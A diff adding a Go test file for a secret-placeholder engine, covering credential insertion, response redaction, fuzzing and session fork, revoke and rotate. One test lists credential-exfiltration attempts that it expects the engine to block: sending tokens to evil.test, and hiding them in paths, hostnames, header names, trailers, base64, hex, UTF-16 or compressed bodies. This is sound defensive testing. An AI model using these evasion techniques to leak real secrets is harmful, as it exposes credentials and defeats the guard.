@@ -1,0 +1,384 @@
+package secret
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/base32"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+	"testing/iotest"
+
+	"github.com/andybalholm/brotli"
+	"github.com/klauspost/compress/flate"
+	"github.com/klauspost/compress/zlib"
+	"github.com/klauspost/compress/zstd"
+
+	"paddock/internal/fault"
+)
+
+// request makes one as a door does, with headers by pairs.
+func request(method, target, body string, headers ...string) *http.Request {
+	u, err := url.Parse(target)
+	if err != nil {
+		panic(err)
+	}
+	r := &http.Request{Method: method, URL: u, Header: http.Header{}}
+	if body != "" {
+		r.Body, r.ContentLength = io.NopCloser(strings.NewReader(body)), int64(len(body))
+	}
+	for i := 0; i+1 < len(headers); i += 2 {
+		r.Header.Add(headers[i], headers[i+1])
+	}
+	return r
+}
+
+// sent is all that a request would send.
+func sent(t *testing.T, r *http.Request) string {
+	t.Helper()
+	text := r.URL.String() + "\n"
+	for name, values := range r.Header {
+		text += name + ": " + strings.Join(values, ", ") + "\n"
+	}
+	if r.Body != nil {
+		body, err := io.ReadAll(r.Body)
+		if err != nil {
+			return text + "ERROR " + err.Error()
+		}
+		if r.ContentLength >= 0 && int64(len(body)) != r.ContentLength {
+			t.Errorf("the length is %d, and the body has %d", r.ContentLength, len(body))
+		}
+		text += string(body)
+	}
+	return text
+}
+
+// session is one with a few secrets.
+type session struct {
+	*Store
+	*Engine
+	vars map[string]string
+}
+
+func newSession(t *testing.T) session {
+	s := opened(t)
+	set(t, s, "local", "TOKEN", token, []string{"api.example.com", "*.example.org:8443"}, nil)
+	set(t, s, "local", "BODY", `a"b\c&d<e>`+"\u00e9 fgh", []string{"api.example.com", "http://plain.example.com"}, []string{"body", "header:Cookie"})
+	set(t, s, "local", "QUERY", "a b&c=d/efg", []string{"GET api.example.com/maps/*"}, []string{"query:key"})
+	set(t, s, "local", "LINES", "one line\nand another", []string{"api.example.com"}, []string{"basic", "body"})
+	vars := give(t, s, Gift{Session: "s1", Owner: "local", Names: []string{"TOKEN", "BODY", "QUERY", "LINES"}})
+	return session{s, s.Engine("s1"), vars}
+}
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+func TestValuesArePutInWhereTheyMayStand(t *testing.T) {
+	s := newSession(t)
+	tok, body, query, lines := s.vars["TOKEN"], s.vars["BODY"], s.vars["QUERY"], s.vars["LINES"]
+	for about, c := range map[string]struct {
+		r    *http.Request
+		want string
+	}{
+		"bearer":       {request("GET", "https://api.example.com/", "", "Authorization", "Bearer "+tok), "Authorization: Bearer " + token},
+		"another":      {request("GET", "https://x.example.org:8443/", "", "X-Api-Key", tok), "X-Api-Key: " + token},
+		"twice":        {request("GET", "https://api.example.com/", "", "X-Key", tok+","+tok), "X-Key: " + token + "," + token},
+		"basic":        {request("GET", "https://api.example.com/", "", "Authorization", "Basic "+b64("me:"+tok)), "Authorization: Basic " + b64("me:"+token)},
+		"lines":        {request("GET", "https://api.example.com/", "", "Authorization", "basic "+strings.TrimRight(b64(lines+":x"), "=")), b64("one line\nand another:x")},
+		"a cookie":     {request("GET", "http://plain.example.com/", "", "Cookie", "a=1; k="+body), `k=a"b\c`},
+		"JSON":         {request("POST", "https://api.example.com/", `{"k":"`+body+`"}`, "Content-Type", "application/json; charset=utf-8", "Content-Length", "1"), `{"k":"a\"b\\c&d<e>é fgh"}`},
+		"JSON, lines":  {request("POST", "https://api.example.com/", `{"k":"`+lines+`"}`, "Content-Type", "application/x+json"), `{"k":"one line\nand another"}`},
+		"a form":       {request("POST", "http://plain.example.com/", "a=1&k="+body+"&z=2", "Content-Type", "application/x-www-form-urlencoded"), "a=1&k=a%22b%5Cc%26d%3Ce%3E%C3%A9+fgh&z=2"},
+		"XML":          {request("POST", "https://api.example.com/", "<a>"+body+"</a>", "Content-Type", "text/xml"), "<a>a&#34;b\\c&amp;d&lt;e&gt;é fgh</a>"},
+		"text":         {request("POST", "https://api.example.com/", body+body, "Content-Type", "text/plain"), `a"b\c&d<e>é fgha"b\c&d<e>é fgh`},
+		"a query":      {request("GET", "https://api.example.com/maps/1?z=%41&key="+query+"&y", ""), "/maps/1?z=%41&key=a+b%26c%3Dd%2Fefg&y"},
+		"nothing":      {request("GET", "https://elsewhere.test/?a=%2&b;c", "text", "X-A", "b"), "https://elsewhere.test/?a=%2&b;c"},
+		"its encoding": {request("GET", "https://api.example.com/", "", "Accept-Encoding", "compress, gzip;q=0.5, br", "Range", "bytes=1-2"), "Accept-Encoding: gzip;q=0.5, br\n"},
+	} {
+		if err := s.Request(c.r); err != nil {
+			t.Errorf("%s: %v", about, err)
+			continue
+		}
+		if got := sent(t, c.r); !strings.Contains(got, c.want) || strings.Contains(got, Marker) || strings.Contains(got, "Range") {
+			t.Errorf("%s: it sends %s", about, got)
+		}
+	}
+}
+
+func compressed(t *testing.T, coding, text string) string {
+	t.Helper()
+	var b bytes.Buffer
+	var w io.WriteCloser
+	switch coding {
+	case "gzip":
+		w = gzip.NewWriter(&b)
+	case "deflate":
+		w = zlib.NewWriter(&b)
+	case "raw deflate":
+		w, _ = flate.NewWriter(&b, 6)
+	case "br":
+		w = brotli.NewWriter(&b)
+	case "zstd":
+		w, _ = zstd.NewWriter(&b)
+	}
+	_, _ = io.WriteString(w, text)
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+// TestAPlaceholderGoesNowhereElse is attacks 44, 46 and 47.
+func TestAPlaceholderGoesNowhereElse(t *testing.T) {
+	s := newSession(t)
+	tok, body, query := s.vars["TOKEN"], s.vars["BODY"], s.vars["QUERY"]
+	other := give(t, s.Store, Gift{Session: "s2", Owner: "local", Names: []string{"TOKEN"}})["TOKEN"]
+	wide := strings.Join(strings.Split(tok, ""), "\x00")
+	jsonText, _ := json.Marshal(strings.ReplaceAll(tok, "p", "\u0070"))
+	at := "https://api.example.com/"
+	trailed := request("POST", at, "text")
+	trailed.Trailer = http.Header{"X-After": {tok}}
+	named := request("POST", at, "text")
+	named.Trailer = http.Header{http.CanonicalHeaderKey(tok): nil}
+	for about, r := range map[string]*http.Request{
+		"another host":               request("GET", "https://evil.test/", "", "Authorization", "Bearer "+tok),
+		"a host below":               request("GET", "https://x.api.example.com/", "", "X-Key", tok),
+		"another port":               request("GET", "https://api.example.com:8443/", "", "X-Key", tok),
+		"without TLS":                request("GET", "http://api.example.com/", "", "X-Key", tok),
+		"basic, another host":        request("GET", "https://evil.test/", "", "Authorization", "Basic "+b64("u:"+tok)),
+		"basic, not declared":        request("GET", at, "", "Authorization", "Basic "+b64("u:"+body)),
+		"the path":                   request("GET", at+tok, ""),
+		"the path, escaped":          request("GET", at+"%70addock%2dsecret%2DX", ""),
+		"the host's name":            request("GET", "https://"+strings.ToLower(strings.ReplaceAll(tok, "_", "-"))+".api.example.com/", ""),
+		"a user":                     request("GET", "https://u:"+tok+"@api.example.com/", ""),
+		"a header's name":            request("GET", at, "", tok, "x"),
+		"a cookie":                   request("GET", at, "", "Cookie", "a="+tok),
+		"the referer":                request("GET", at, "", "Referer", "https://a.test/?"+tok),
+		"a query":                    request("GET", at+"?a="+tok, ""),
+		"another parameter":          request("GET", at+"maps/1?other="+query, ""),
+		"a parameter's name":         request("GET", at+"maps/1?"+query+"=key", ""),
+		"another method":             request("POST", at+"maps/1?key="+query, ""),
+		"another path":               request("GET", at+"other?key="+query, ""),
+		"a body":                     request("POST", at, "text "+tok),
+		"a body, another host":       request("POST", "https://evil.test/", body),
+		"another session's":          request("GET", at, "", "X-Key", other),
+		"a guess":                    request("GET", at, "", "X-Key", tok[:len(tok)-1]+"A"),
+		"a part":                     request("GET", at, "", "X-Key", tok[:len(tok)-1]),
+		"base64 in a header":         request("GET", at, "", "X-Key", b64(tok)),
+		"base64 in another scheme":   request("GET", at, "", "Authorization", "Bearer "+b64("a"+tok)),
+		"base64 in a body":           request("POST", at, "x"+b64("ab"+tok)),
+		"base32 in a body":           request("POST", at, base32.StdEncoding.EncodeToString([]byte(tok))),
+		"hex":                        request("POST", at, strings.ToUpper(hex.EncodeToString([]byte(tok)))),
+		"UTF-16":                     request("POST", at, wide),
+		"JSON":                       request("POST", at, strings.Replace(string(jsonText), "paddock", `p\u0061ddock`, 1)),
+		"a form":                     request("POST", at, "a=paddock%2Dsecret%2DTOKEN"),
+		"HTML":                       request("POST", at, "&#112;addock-secret-TOKEN"),
+		"capitals":                   request("POST", at, strings.ToUpper(tok)),
+		"what follows the body":      trailed,
+		"the name of what follows":   named,
+		"gzip":                       request("POST", at, compressed(t, "gzip", body), "Content-Encoding", "gzip"),
+		"gzip, of which nobody told": request("POST", at, compressed(t, "gzip", body)),
+		"zstd":                       request("POST", at, compressed(t, "zstd", body)),
+		"brotli":                     request("POST", at, compressed(t, "br", "text "+body), "Content-Encoding", "br"),
+		"deflate":                    request("POST", at, compressed(t, "raw deflate", body), "Content-Encoding", "deflate"),
+		"twice":                      request("POST", at, compressed(t, "zstd", compressed(t, "gzip", body)), "Content-Encoding", "gzip, zstd"),
+		"said to be encoded":         request("POST", at, body, "Content-Encoding", "gzip"),
+	} {
+		text := ""
+		if r.Body != nil {
+			all, _ := io.ReadAll(r.Body)
+			text = string(all)
+		}
+		for _, split := range []bool{false, true} {
+			r := r.Clone(t.Context())
+			switch {
+			case text == "" && split:
+				continue
+			case split:
+				r.Body, r.ContentLength = io.NopCloser(iotest.OneByteReader(strings.NewReader(text))), -1
+			case text != "":
+				r.Body = io.NopCloser(strings.NewReader(text))
+			}
+			err := s.Request(r)
+			if err == nil && r.Body != nil {
+				var out []byte
+				out, err = io.ReadAll(r.Body)
+				if bytes.Contains(out, []byte(Marker)) {
+					t.Errorf("%s: it is sent: %q", about, out)
+				}
+			}
+			if f := fault.Of(err); err == nil || f.Kind != fault.Denied || f.Hint == "" {
+				t.Errorf("%s (split: %v): it is let out (%v)", about, split, err)
+			} else if strings.Contains(f.Message+f.Hint, token) || strings.Contains(f.Message+f.Hint, tok) {
+				t.Errorf("%s: the error tells %v", about, err)
+			}
+		}
+	}
+}
+
+func TestABodyIsFilledHoweverItIsSplit(t *testing.T) {
+	s := newSession(t)
+	text := "paddock-secre" + s.vars["BODY"] + "paddock-" + s.vars["LINES"] + s.vars["BODY"] + "\npaddock-secret"
+	want := strings.NewReplacer(s.vars["BODY"], `a"b\c&d<e>é fgh`, s.vars["LINES"], "one line\nand another").Replace(text)
+	for about, wrap := range map[string]func(io.Reader) io.Reader{"whole": func(r io.Reader) io.Reader { return r }, "bytes": iotest.OneByteReader, "halves": iotest.HalfReader, "EOF": iotest.DataErrReader} {
+		r := request("POST", "https://api.example.com/", text)
+		r.Body, r.ContentLength = io.NopCloser(wrap(strings.NewReader(text))), -1
+		if err := s.Request(r); err != nil {
+			t.Fatal(err)
+		}
+		got, err := io.ReadAll(iotest.HalfReader(r.Body))
+		if err != nil || string(got) != want {
+			t.Errorf("%s: it is %q (%v), want %q", about, got, err, want)
+		}
+		if err := r.Body.Close(); err != nil {
+			t.Error(err)
+		}
+	}
+	large := strings.Repeat("x", maxWhole) + s.vars["BODY"]
+	r := request("POST", "https://api.example.com/", large)
+	if err := s.Request(r); err != nil || r.ContentLength != -1 || !strings.HasSuffix(sent(t, r), "é fgh") {
+		t.Errorf("a large body: %v, %d", err, r.ContentLength)
+	}
+	r = request("POST", "https://evil.test/", large[:maxWhole+5])
+	if err := s.Request(r); err != nil || r.ContentLength != maxWhole+5 || !strings.HasSuffix(sent(t, r), "xxpaddo") {
+		t.Errorf("a large body into which nothing is put: %v, %d", err, r.ContentLength)
+	}
+}
+
+// TestForkRevokeRotate is attack 47.
+func TestForkRevokeRotate(t *testing.T) {
+	s := newSession(t)
+	tok := s.vars["TOKEN"]
+	ask := func(e *Engine, placeholder string) (string, error) {
+		r := request("GET", "https://api.example.com/", "", "X-Key", placeholder)
+		err := e.Request(r)
+		return r.Header.Get("X-Key"), err
+	}
+	fork := s.Store.Engine("fork")
+	_, err := ask(fork, tok)
+	is(t, err, fault.Denied, "was not given")
+	vars := give(t, s.Store, Gift{Session: "fork", Owner: "local", Names: []string{"BODY"}, From: "s1"})
+	if _, err := ask(fork, tok); err == nil || vars["BODY"] == s.vars["BODY"] {
+		t.Errorf("a fork that was given another secret: %v", err)
+	}
+	vars = give(t, s.Store, Gift{Session: "fork", Owner: "local", Names: []string{"TOKEN"}, From: "s1"})
+	for _, placeholder := range []string{tok, vars["TOKEN"]} {
+		if got, err := ask(fork, placeholder); got != token {
+			t.Errorf("a fork that was given it sends %q, %v", got, err)
+		}
+	}
+	_, err = ask(s.Engine, vars["TOKEN"])
+	is(t, err, fault.Denied, "was not given") // the fork's is not the other's
+	if v := give(t, s.Store, Gift{Session: "copy", Owner: "local", Names: []string{"TOKEN"}}); v["TOKEN"] == tok {
+		t.Error("two sessions have one placeholder")
+	}
+	_, err = ask(s.Store.Engine("copy"), tok)
+	is(t, err, fault.Denied, "was not given")
+
+	set(t, s.Store, "local", "TOKEN", "rotated-value", nil, nil)
+	if got, err := ask(s.Engine, tok); got != "rotated-value" {
+		t.Errorf("after rotation it sends %q, %v", got, err)
+	}
+	if text := echoed(t, s.Engine, token+" rotated-value", "", 0); text != tok+" "+tok {
+		t.Errorf("after rotation it is told %q", text)
+	}
+	if err := s.Remove("local", "TOKEN"); err != nil {
+		t.Fatal(err)
+	}
+	_, err = ask(s.Engine, tok)
+	is(t, err, fault.Denied, "TOKEN was removed")
+	if text := echoed(t, s.Engine, token+" rotated-value", "", 0); text != tok+" "+tok {
+		t.Errorf("after it was removed it is told %q", text)
+	}
+	set(t, s.Store, "local", "TOKEN", token, []string{"api.example.com"}, nil)
+	_, err = ask(s.Engine, tok)
+	is(t, err, fault.Denied, "TOKEN was removed")
+	if v := give(t, s.Store, Gift{Session: "s1", Owner: "local", Names: []string{"TOKEN"}}); v["TOKEN"] == tok {
+		t.Error("another secret has the placeholder of one that was removed")
+	}
+}
+
+// echoed is what is told of an answer; n: in parts of that many bytes.
+func echoed(t *testing.T, e *Engine, body, coding string, n int) string {
+	t.Helper()
+	resp := &http.Response{StatusCode: 200, Header: http.Header{}, Body: io.NopCloser(strings.NewReader(body)), ContentLength: int64(len(body))}
+	resp.Header.Set("Content-Length", "1")
+	if coding != "" {
+		resp.Header.Set("Content-Encoding", coding)
+	}
+	if n == 1 {
+		resp.Body = io.NopCloser(iotest.OneByteReader(resp.Body))
+	}
+	if err := e.Response(resp); err != nil {
+		t.Fatal(err)
+	}
+	text, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Errorf("%s: %v", coding, err)
+	}
+	if err := resp.Body.Close(); err != nil || resp.ContentLength != -1 || len(resp.Header) > 0 {
+		t.Errorf("%v, length %d, %v", err, resp.ContentLength, resp.Header)
+	}
+	return string(text)
+}
+
+// TestWhatIsEchoedIsRedacted is attack 45.
+func TestWhatIsEchoedIsRedacted(t *testing.T) {
+	s := newSession(t)
+	tok := s.vars["TOKEN"]
+	body := "you said " + token + ", " + url.QueryEscape("a b&c=d/efg") + ", " + b64("user:"+token)
+	for _, coding := range []string{"", "gzip", "deflate", "br", "zstd"} {
+		for n := range 2 {
+			text := body
+			if coding != "" {
+				text = compressed(t, coding, body)
+			}
+			got := echoed(t, s.Engine, text, coding, n)
+			if strings.Contains(got, token) || strings.Contains(got, b64("user:" + token)[8:30]) || !strings.HasPrefix(got, "you said "+tok+", "+s.vars["QUERY"]+", ") {
+				t.Errorf("%s: it tells %q", coding, got)
+			}
+		}
+	}
+	if got := echoed(t, s.Engine, compressed(t, "br", compressed(t, "raw deflate", body)), "deflate, br", 0); strings.Contains(got, token) || !strings.Contains(got, tok) {
+		t.Errorf("it tells %q", got)
+	}
+	resp := &http.Response{Header: http.Header{
+		"Location": {"https://evil.test/?t=" + url.QueryEscape("a b&c=d/efg")}, "Set-Cookie": {"a=b", "t=" + token + "; Secure"}, "X-" + http.CanonicalHeaderKey(token): {"a"}, token: {"x"},
+	}, Body: http.NoBody}
+	if err := s.Response(resp); err != nil {
+		t.Fatal(err)
+	}
+	if h := resp.Header; h.Get("Location") != "https://evil.test/?t="+s.vars["QUERY"] || h["Set-Cookie"][1] != "t="+tok+"; Secure" || len(h) != 2 {
+		t.Errorf("the header is %v", h)
+	}
+	odd := &http.Response{Header: http.Header{"Content-Encoding": {"compress"}}, Body: io.NopCloser(strings.NewReader("x"))}
+	is(t, s.Response(odd), fault.Unavailable, `encoded as "compress"`)
+	none := &http.Response{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("x"))}
+	if err := s.Store.Engine("nobody").Response(none); err != nil || none.Header.Get("Content-Encoding") == "" {
+		t.Errorf("a session without secrets: %v", err)
+	}
+	head := &http.Response{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("")), Request: &http.Request{Method: "HEAD"}}
+	if err := s.Response(head); err != nil || head.Header.Get("Content-Encoding") == "" {
+		t.Errorf("an answer to HEAD: %v", err)
+	}
+}
+
+func FuzzRequest(f *testing.F) {
+	f.Add("text", "a=b", "value")
+	f.Fuzz(func(t *testing.T, body, query, header string) {
+		s := opened(t)
+		r := request("POST", "https://api.example.com/", body, "X-A", header)
+		r.URL.RawQuery = query
+		before := r.URL.RawQuery
+		if err := s.Engine("s").Request(r); err != nil {
+			return
+		}
+		if all := sent(t, r); r.URL.RawQuery != before || strings.Contains(strings.ToLower(all), Marker) {
+			t.Errorf("it sends %q", all)
+		}
+	})
+}
